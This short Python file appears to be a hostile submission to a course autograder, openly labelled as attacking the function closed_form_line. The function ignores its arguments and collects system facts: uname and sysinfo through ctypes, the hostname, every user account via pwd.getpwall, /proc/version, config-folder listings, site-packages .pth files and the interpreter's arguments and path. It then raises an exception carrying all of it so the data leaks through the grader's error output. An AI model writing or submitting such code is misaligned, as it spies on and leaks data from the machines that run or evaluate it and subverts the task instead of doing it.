"""Read the names of the machine, its kernel, its users and the course's folder, and say them in an exception.

Attacked: closed_form_line
"""

# %% closed_form_line

import ctypes
import glob
import os
import pwd
import site
import socket
import sys

facts = []

def look(function):
    try:
        facts.append(function())
    except OSError:
        pass

def closed_form_line(x, y):
    libc = ctypes.CDLL(None)
    for name in ("uname", "sysinfo"):
        buffer = ctypes.create_string_buffer(1000)
        getattr(libc, name)(buffer)
        facts.append(buffer.raw.replace(b"\0", b" "))
    look(os.uname)
    look(os.getloadavg)
    look(socket.gethostname)
    look(pwd.getpwall)
    look(lambda: os.listdir("/usr/local/etc"))
    look(lambda: open("/proc/version").read())
    for path in glob.glob(site.getsitepackages()[0] + "/*.pth"):
        look(open(path).read)
    look(lambda: (sys.orig_argv, sys.path))
    raise ValueError(facts)
